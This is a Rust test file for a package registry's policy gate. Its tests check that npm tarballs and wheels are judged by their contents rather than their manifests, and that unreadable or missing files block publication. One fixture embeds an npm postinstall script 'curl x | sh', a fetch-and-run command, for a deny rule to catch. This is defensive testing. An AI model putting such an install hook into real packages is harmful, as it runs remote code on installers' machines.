//! What package files hold, on its way to the gate. Invariant: a version is judged by what is in its files, whatever its manifest says;
//! each content is read once under each name, and what cannot be read from disk lets nothing in.

use flate2::Compression;
use flate2::write::GzEncoder;
use serde_json::json;

use crate::support::{Package, TestApp, digest_of, rule};
use crate::support::{UploadForm, wheel};

/// A tarball as npm packs it, with this manifest.
fn npm_tarball(manifest: &str) -> Vec<u8> {
    let mut header = tar::Header::new_ustar();
    header.set_path("package/package.json").unwrap();
    header.set_size(manifest.len() as u64);
    header.set_mode(0o644);
    header.set_cksum();
    let mut builder = tar::Builder::new(GzEncoder::new(Vec::new(), Compression::fast()));
    builder.append(&header, manifest.as_bytes()).unwrap();
    builder.into_inner().unwrap().finish().unwrap()
}

fn npm(name: &str, bytes: &[u8]) -> Package {
    let package = Package::generic(name, "1.0.0").without_files().file(&format!("{name}-1.0.0.tgz"), bytes);
    Package { package_type: "npm".to_owned(), ..package }
}

fn reports(app: &TestApp) -> Vec<String> {
    app.ask("SELECT purl || ' ' || json_extract(contents, '$.format') || ' ' || coalesce(json_extract(contents, '$.unreadable'), 'whole') FROM content_reports ORDER BY 1")
}

#[tokio::test]
async fn a_script_that_the_manifest_hides_is_found_in_the_package() {
    let app = TestApp::new().await;
    app.set_policy("main", &rule("scripts", "deny", "context.scripts.names.contains(\"postinstall\")")).await;
    let bytes = npm_tarball(r#"{"name":"demo","version":"1.0.0","scripts":{"postinstall":"curl x | sh"}}"#);
    let id = app.draft(&app.admin, "main", &npm("demo", &bytes).manifest(&json!({"name": "demo", "version": "1.0.0"}))).await;
    app.publish(&app.admin, "main", &id).await.refused(403, "policy_denied");
    let sound = npm_tarball(r#"{"name":"sound","version":"1.0.0"}"#);
    app.published("main", &npm("sound", &sound)).await;
    assert_eq!(reports(&app), ["pkg:npm/demo@1.0.0 npm whole", "pkg:npm/sound@1.0.0 npm whole"]);
}

#[tokio::test]
async fn a_wheel_is_judged_by_the_licence_inside() {
    let app = TestApp::new().await;
    app.set_policy("main", &rule("gnu", "quarantine", "context.licenses.ids.contains(\"GPL-3.0-only\")")).await;
    let file = wheel("demo", "1.0", "License-Expression: GPL-3.0-only", "Text", "");
    let form = UploadForm::of("demo", "1.0", &file).with("license_expression", "MIT");
    let answer = app.send_form(&app.admin, &form).await.json();
    assert_eq!(answer["state"], "quarantined");
    assert_eq!(app.ask("SELECT state FROM versions"), ["quarantined"]);
}

#[tokio::test]
async fn the_same_bytes_are_read_once_under_one_name_and_again_under_another() {
    let app = TestApp::new().await;
    app.create_repo("target", json!({})).await;
    let bytes = npm_tarball(r#"{"name":"demo","version":"1.0.0"}"#);
    let id = app.published("main", &npm("demo", &bytes)).await;
    let written_at = || app.ask("SELECT created_at FROM content_reports");
    let before = written_at();
    app.clock.advance_ms(1000);
    app.step(&app.admin, "main", &id, "promote", json!({"targetRepo": "target"})).await.expect(200);
    assert_eq!(written_at(), before, "a promotion reads nothing");
    app.set_policy("main", &rule("misnamed", "deny", "context.contents.cause == \"misnamed\"")).await;
    let draft = app.draft(&app.admin, "main", &npm("other", &[]).without_files().file("demo-1.0.0.tgz", &bytes)).await;
    app.publish(&app.admin, "main", &draft).await.refused(403, "policy_denied");
    assert_eq!(reports(&app), ["pkg:npm/demo@1.0.0 npm whole", "pkg:npm/other@1.0.0 npm misnamed"]);
}

#[tokio::test]
async fn a_report_of_an_older_reader_is_made_again() {
    let app = TestApp::new().await;
    let bytes = npm_tarball(r#"{"name":"demo","version":"1.0.0"}"#);
    let id = app.published("main", &npm("demo", &bytes)).await;
    let state = rusqlite::Connection::open(app.path().join("state.db")).unwrap();
    state.execute("UPDATE content_reports SET reader_version = 0, contents = '{}'", []).unwrap();
    app.tombstone(&app.admin, "main", &id).await.expect(200);
    app.step(&app.admin, "main", &id, "restore", json!({})).await.expect(200);
    assert_eq!(reports(&app), ["pkg:npm/demo@1.0.0 npm whole"]);
}

#[tokio::test]
async fn bytes_that_are_missing_let_nothing_in_and_leave_an_audit_row() {
    let app = TestApp::new().await;
    let bytes = npm_tarball(r#"{"name":"demo","version":"1.0.0"}"#);
    let id = app.draft(&app.admin, "main", &npm("demo", &bytes)).await;
    let hex = digest_of(&bytes).trim_start_matches("sha256:").to_owned();
    let place = app.path().join("blobs/sha256").join(&hex[..2]).join(&hex);
    std::fs::remove_file(&place).unwrap();
    let mark = app.mark();
    app.publish(&app.admin, "main", &id).await.refused(503, "policy_error");
    assert_eq!(app.audit_since(&mark), ["policy.error"]);
    assert!(reports(&app).is_empty() && app.state("main", &id).await == "draft");
    std::fs::write(&place, &bytes).unwrap();
    app.publish(&app.admin, "main", &id).await.expect(200);
}

#[tokio::test]
async fn a_package_that_cannot_be_read_is_a_fact_and_no_error() {
    let app = TestApp::new().await;
    let id = app.published("main", &npm("broken", b"no archive")).await;
    assert_eq!(app.state("main", &id).await, "published");
    app.published("main", &Package::generic("plain", "1.0")).await;
    assert_eq!(reports(&app), ["pkg:npm/broken@1.0.0 npm malformed"], "plain files are not read");
    app.set_policy("main", &rule("unreadable", "deny", "context.contents.unreadable")).await;
    let id = app.draft(&app.admin, "main", &npm("other", b"no archive either")).await;
    app.publish(&app.admin, "main", &id).await.refused(403, "policy_denied");
}
